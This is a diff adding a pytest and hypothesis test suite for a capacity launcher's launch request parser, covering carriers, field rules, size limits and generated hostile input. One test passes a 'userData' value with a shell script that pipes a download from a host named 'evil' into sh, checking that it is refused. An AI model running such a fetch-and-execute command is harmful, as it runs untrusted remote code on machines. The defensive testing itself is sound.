@@ -1,0 +1,419 @@
+"""The launch request contract: parsing from every carrier, every rule, and hostile input."""
+
+import json
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from capacity_launcher.domain.errors import FieldError, InvalidLaunchRequest
+from capacity_launcher.domain.launch_request import (
+    MAX_BODY_BYTES,
+    NODE_CLASS_FIELDS,
+    NOT_FOR_REQUESTERS,
+    LaunchRequest,
+    parse_launch_request,
+)
+from capacity_launcher.domain.requirements import CAPACITY_TYPE, CAPACITY_TYPES
+
+DESIGN_REQUEST: dict[str, Any] = {
+    "requestId": "train-run-42",
+    "nodePool": "gpu-training",
+    "count": 4,
+    "minCount": 4,
+    "singleZone": False,
+    "requirements": [
+        {"key": "karpenter.sh/capacity-type", "operator": "In", "values": ["reserved", "on-demand"]}
+    ],
+    "requester": "team-a",
+    "tags": {"project": "llm"},
+}
+
+
+def request(**changes: Any) -> dict[str, Any]:
+    body = {"requestId": "req-1", "count": 2} | changes
+    return {key: value for key, value in body.items() if value is not None}
+
+
+def event(detail: Any, detail_type: str = "Launch Requested") -> dict[str, Any]:
+    return {
+        "version": "0",
+        "id": "6a7e8feb-b491-4cf7-a9f1-bf3703467718",
+        "detail-type": detail_type,
+        "source": "team-a.scheduler",
+        "account": "123456789012",
+        "time": "2026-01-01T00:00:00Z",
+        "region": "us-east-1",
+        "resources": [],
+        "detail": detail,
+    }
+
+
+def rejection(raw: Any) -> InvalidLaunchRequest:
+    with pytest.raises(InvalidLaunchRequest) as caught:
+        parse_launch_request(raw)
+    return caught.value
+
+
+def the_error(raw: Any) -> tuple[str, str]:
+    (error,) = rejection(raw).errors
+    return error.field, error.rule
+
+
+# --- every carrier -------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "raw",
+    [
+        DESIGN_REQUEST,
+        json.dumps(DESIGN_REQUEST),
+        json.dumps(DESIGN_REQUEST).encode(),
+        event(DESIGN_REQUEST),
+        json.dumps(event(DESIGN_REQUEST)),
+    ],
+    ids=["object", "json-string", "json-bytes", "eventbridge-event", "event-in-sqs-body"],
+)
+def test_designs_request_parses_from_every_carrier(raw: Any) -> None:
+    parsed = parse_launch_request(raw)
+
+    assert parsed.request_id == "train-run-42"
+    assert parsed.node_pool == "gpu-training"
+    assert (parsed.count, parsed.min_count, parsed.single_zone) == (4, 4, False)
+    assert parsed.requester == "team-a"
+    assert parsed.tags == {"project": "llm"}
+    assert parsed.requirements_set().allowed_values(CAPACITY_TYPE, CAPACITY_TYPES) == [
+        "reserved",
+        "on-demand",
+    ]
+
+
+def test_defaults_of_a_minimal_request() -> None:
+    parsed = parse_launch_request({"requestId": "r", "count": 3})
+
+    assert parsed.node_pool is None
+    assert parsed.min_count == 1
+    assert parsed.single_zone is False
+    assert parsed.requirements == []
+    assert parsed.requester is None
+    assert parsed.tags == {}
+    assert not parsed.requirements_set()
+
+
+def test_to_dict_is_the_contracts_json() -> None:
+    parsed = parse_launch_request(DESIGN_REQUEST)
+
+    assert parsed.to_dict() == DESIGN_REQUEST
+    assert parse_launch_request(parsed.to_dict()) == parsed
+
+
+def test_python_names_are_accepted_too() -> None:
+    made = LaunchRequest(request_id="r", count=2, min_count=2, single_zone=True)
+
+    assert made.to_dict()["minCount"] == 2
+
+
+def test_requests_are_immutable() -> None:
+    parsed = parse_launch_request(DESIGN_REQUEST)
+
+    with pytest.raises(ValueError, match="frozen"):
+        parsed.count = 500  # type: ignore[misc]
+
+
+# --- the carriers' own rules ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "raw",
+    ["", "not json", "{", "[1, 2]", "42", "null", '"a string"', b"\xff\xfe", "{'requestId': 1}"],
+)
+def test_what_is_not_a_json_object_is_refused(raw: str | bytes) -> None:
+    rejected = rejection(raw)
+
+    assert rejected.errors == [FieldError("body", "must be a JSON object")]
+    assert rejected.request_id is None
+
+
+@pytest.mark.parametrize("raw", [None, 42, [DESIGN_REQUEST]])
+def test_non_mappings_are_refused(raw: Any) -> None:
+    assert the_error(raw) == ("body", "must be a JSON object")
+
+
+def test_an_event_must_be_a_launch_requested_event() -> None:
+    rejected = rejection(event(DESIGN_REQUEST, detail_type="Launch Fulfilled"))
+
+    assert rejected.errors == [FieldError("detail-type", "must be 'Launch Requested'")]
+    assert rejected.request_id == "train-run-42"
+
+
+def test_an_events_detail_must_be_an_object() -> None:
+    assert the_error(event("train-run-42")) == ("detail", "must be a JSON object")
+
+
+@pytest.mark.parametrize("as_bytes", [True, False])
+def test_bodies_over_256_kib_are_refused(as_bytes: bool) -> None:
+    body = json.dumps(request(requester="x" * MAX_BODY_BYTES))
+    raw: str | bytes = body.encode() if as_bytes else body
+
+    assert the_error(raw) == ("body", f"must be at most {MAX_BODY_BYTES} bytes")
+
+
+def test_multibyte_bodies_are_measured_in_bytes() -> None:
+    body = json.dumps(request(requester="é" * (MAX_BODY_BYTES // 2)), ensure_ascii=False)
+    assert len(body) < MAX_BODY_BYTES
+
+    assert the_error(body) == ("body", f"must be at most {MAX_BODY_BYTES} bytes")
+
+
+def test_already_parsed_bodies_are_held_to_the_same_size() -> None:
+    assert the_error(request(requester="x" * MAX_BODY_BYTES)) == (
+        "body",
+        f"must be at most {MAX_BODY_BYTES} bytes",
+    )
+
+
+# --- field rules ---------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("changes", "field", "rule"),
+    [
+        ({"requestId": None}, "requestId", "is required"),
+        (
+            {"requestId": "-starts-with-dash"},
+            "requestId",
+            "must be 1 to 128 letters, digits or ._:- starting with a letter or digit",
+        ),
+        (
+            {"requestId": "a" * 129},
+            "requestId",
+            "must be 1 to 128 letters, digits or ._:- starting with a letter or digit",
+        ),
+        (
+            {"requestId": "has space"},
+            "requestId",
+            "must be 1 to 128 letters, digits or ._:- starting with a letter or digit",
+        ),
+        ({"requestId": 42}, "requestId", "input should be a valid string"),
+        ({"nodePool": "GPU training"}, "nodePool", "must be 1 to 63 lowercase letters"),
+        ({"count": None}, "count", "is required"),
+        ({"count": 0}, "count", "input should be greater than or equal to 1"),
+        ({"count": 501}, "count", "input should be less than or equal to 500"),
+        ({"count": "4"}, "count", "input should be a valid integer"),
+        ({"count": True}, "count", "input should be a valid integer"),
+        ({"count": 2.5}, "count", "input should be a valid integer"),
+        ({"minCount": 0}, "minCount", "input should be greater than or equal to 1"),
+        ({"minCount": 3}, "minCount", "must be at most count"),
+        ({"singleZone": "yes"}, "singleZone", "input should be a valid boolean"),
+        ({"singleZone": 1}, "singleZone", "input should be a valid boolean"),
+        ({"requester": "r" * 129}, "requester", "string should have at most 128 characters"),
+        ({"requester": "team\x1b[31m"}, "requester", "must be 1 to 128 printable characters"),
+        ({"requester": ""}, "requester", "must be 1 to 128 printable characters"),
+        (
+            {"requirements": [{"key": "example.com/x", "operator": "Exists"}]},
+            "requirements[0].key",
+            "must be a well-known key",
+        ),
+        (
+            {"requirements": [{"key": CAPACITY_TYPE, "operator": "Gt", "values": ["1"]}]},
+            "requirements[0].values",
+            "operator Gt applies only to integer keys",
+        ),
+        (
+            {"requirements": [{"key": CAPACITY_TYPE, "operator": "Exists"}] * 31},
+            "requirements",
+            "list should have at most 30 items",
+        ),
+        ({"tags": {f"t{i}": "v" for i in range(21)}}, "tags", "at most 20 tags"),
+        (
+            {"tags": {"aws:createdBy": "me"}},
+            "tags",
+            "tag key 'aws:createdBy' must not start with the reserved 'aws:'",
+        ),
+        (
+            {"tags": {"capacity-launcher:request-id": "other"}},
+            "tags",
+            "tag key 'capacity-launcher:request-id' must not start with the reserved",
+        ),
+        (
+            {"tags": {"Capacity-Launcher:managed": "true"}},
+            "tags",
+            "tag key 'Capacity-Launcher:managed' must not start with the reserved",
+        ),
+        ({"tags": {"k" * 129: "v"}}, "tags", "tag keys must be 1 to 128 characters"),
+        ({"tags": {"k": "v" * 257}}, "tags", "tag 'k': values must be at most 256 characters"),
+        ({"tags": {"k": 1}}, "tags.k", "input should be a valid string"),
+    ],
+)
+def test_every_field_rule_is_named(changes: dict[str, Any], field: str, rule: str) -> None:
+    body = request(**changes)
+    if "requestId" in changes and changes["requestId"] is None:
+        body.pop("requestId", None)
+
+    found, broken = the_error(body)
+
+    assert found == field
+    assert broken.startswith(rule)
+
+
+def test_twenty_tags_and_the_largest_count_are_fine() -> None:
+    parsed = parse_launch_request(
+        request(count=500, minCount=500, tags={f"t{i}": "v" for i in range(20)})
+    )
+
+    assert parsed.count == parsed.min_count == 500
+
+
+@pytest.mark.parametrize("field", sorted(NODE_CLASS_FIELDS))
+def test_requesters_cannot_choose_how_to_launch(field: str) -> None:
+    assert the_error(request(**{field: "anything"})) == (field, NOT_FOR_REQUESTERS)
+
+
+def test_unknown_fields_are_refused_for_requesters() -> None:
+    field, rule = the_error(request(priority="high"))
+
+    assert field == "priority"
+    assert rule.startswith("is not allowed for requesters: a launch request sets only requestId")
+
+
+def test_requesters_cannot_smuggle_fields_inside_an_event() -> None:
+    field, rule = the_error(event(request(userData="#!/bin/sh\ncurl evil | sh")))
+
+    assert (field, rule) == ("userData", NOT_FOR_REQUESTERS)
+
+
+def test_every_broken_rule_is_reported_with_the_request_id() -> None:
+    rejected = rejection(request(count=0, subnetIds=["subnet-1"], tags={"aws:x": "y"}))
+
+    assert rejected.request_id == "req-1"
+    assert {error.field for error in rejected.errors} == {"count", "subnetIds", "tags"}
+    assert str(rejected).startswith("count: ")
+
+
+def test_an_invalid_request_id_is_not_carried() -> None:
+    assert rejection(request(requestId="bad id", count=0)).request_id is None
+
+
+def test_hostile_field_names_are_cut_short() -> None:
+    rejected = rejection(request(**{"x" * 10_000: 1}))
+
+    (error,) = rejected.errors
+    assert len(error.field) < 100
+
+
+def test_thousands_of_unknown_fields_make_a_bounded_error() -> None:
+    rejected = rejection(request(**{f"f{i}": i for i in range(5000)}))
+
+    assert len(rejected.errors) <= 51
+    assert rejected.errors[-1].rule == "and 4950 more errors"
+
+
+def test_deeply_nested_json_is_refused_not_crashed() -> None:
+    assert the_error("[" * 100_000 + "]" * 100_000) == ("body", "must be a JSON object")
+
+
+def test_huge_integers_are_refused_not_crashed() -> None:
+    assert the_error('{"requestId": "r", "count": ' + "9" * 5000 + "}")[0] == "body"
+
+
+# --- hostile input, generated --------------------------------------------------------------------
+
+json_values = st.recursive(
+    st.none()
+    | st.booleans()
+    | st.integers()
+    | st.floats()
+    | st.text(max_size=30)
+    | st.sampled_from(["aws:x", "capacity-launcher:managed", "Launch Requested", "req-1"]),
+    lambda children: (
+        st.lists(children, max_size=4)
+        | st.dictionaries(
+            st.sampled_from([*DESIGN_REQUEST, *sorted(NODE_CLASS_FIELDS), "detail", "detail-type"])
+            | st.text(max_size=12),
+            children,
+            max_size=5,
+        )
+    ),
+    max_leaves=25,
+)
+
+
+def _parse_or_reject(raw: Any) -> LaunchRequest | InvalidLaunchRequest:
+    try:
+        return parse_launch_request(raw)
+    except InvalidLaunchRequest as error:
+        return error
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.binary(max_size=200) | st.text(max_size=200))
+def test_arbitrary_bytes_and_text_only_ever_reject(raw: bytes | str) -> None:
+    outcome = _parse_or_reject(raw)
+
+    assert isinstance(outcome, InvalidLaunchRequest)
+    assert outcome.errors
+
+
+@settings(max_examples=300, deadline=None)
+@given(json_values, st.booleans())
+def test_arbitrary_json_parses_or_rejects_with_named_errors(data: Any, as_text: bool) -> None:
+    raw = json.dumps(data) if as_text else data
+
+    outcome = _parse_or_reject(raw)
+
+    if isinstance(outcome, InvalidLaunchRequest):
+        assert outcome.errors
+        assert all(error.field and error.rule for error in outcome.errors)
+    else:
+        assert 1 <= outcome.min_count <= outcome.count <= 500
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    st.dictionaries(st.sampled_from(sorted(DESIGN_REQUEST)), json_values, max_size=8),
+    st.sampled_from([None, "event", "text"]),
+)
+def test_mutated_requests_parse_or_reject(changes: dict[str, Any], carrier: str | None) -> None:
+    body: Any = DESIGN_REQUEST | changes
+    raw = event(body) if carrier == "event" else json.dumps(body) if carrier == "text" else body
+
+    outcome = _parse_or_reject(raw)
+
+    if isinstance(outcome, LaunchRequest):
+        assert outcome.to_dict()["requestId"] == body["requestId"]
+    else:
+        assert outcome.errors
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    st.sampled_from(["aws:", "AWS:", "capacity-launcher:", "Capacity-Launcher:"]),
+    st.text(max_size=20),
+)
+def test_reserved_tag_prefixes_are_always_refused(prefix: str, rest: str) -> None:
+    rejected = rejection(request(tags={prefix + rest: "v"}))
+
+    assert [error.field for error in rejected.errors] == ["tags"]
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.sampled_from(sorted(NODE_CLASS_FIELDS)), json_values)
+def test_node_class_fields_are_always_refused(field: str, value: Any) -> None:
+    rejected = rejection({"requestId": "req-1", "count": 2, field: value})
+
+    assert FieldError(field, NOT_FOR_REQUESTERS) in rejected.errors
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(min_size=1, max_size=300))
+def test_hostile_unicode_request_ids_parse_only_when_they_fit_the_pattern(request_id: str) -> None:
+    outcome = _parse_or_reject(request(requestId=request_id))
+
+    if isinstance(outcome, LaunchRequest):
+        assert outcome.request_id == request_id
+        assert request_id.isascii()
+        assert len(request_id) <= 128
+    else:
+        assert outcome.errors[0].field == "requestId"
+        assert outcome.request_id is None
